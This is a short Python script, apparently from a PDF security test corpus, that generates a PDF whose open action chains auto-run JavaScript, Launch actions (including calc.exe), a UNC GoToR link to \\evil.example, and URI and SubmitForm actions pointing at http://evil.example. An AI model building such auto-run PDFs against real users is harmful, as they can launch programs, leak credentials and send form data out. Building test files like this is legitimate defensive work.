# SPDX-License-Identifier: GPL-2.0-or-later
from recipes import emit
from recipes_pdf import *

KINDS = ['/S/JavaScript/JS(PDF02-MARK)', '/S/Launch/F(PDF02-MARK)/NewWindow true', '/S/Launch/Win<</F(calc.exe)/P(PDF02-MARK)/O(open)>>/Mac(PDF02-MARK)/Unix(PDF02-MARK)', '/S/URI/URI(http://evil.example)/IsMap true',
         '/S/GoToR/F<</Type/Filespec/F(\\\\\\\\evil.example\\\\s)/UF(\\\\\\\\evil.example\\\\s)>>/D[0/Fit]', '/S/GoToE/T<</R/C/N(PDF02-MARK)>>/D[0/Fit]', '/S/Named/N/Print', '/S/SubmitForm/F(http://evil.example)']
emit(page(catalog=f'/OpenAction<<{KINDS[0]}/Next[' + ''.join(f'<<{kind}>>' for kind in KINDS[1:]) + ']>>/URI<</Base(http://evil.example/)>>'))
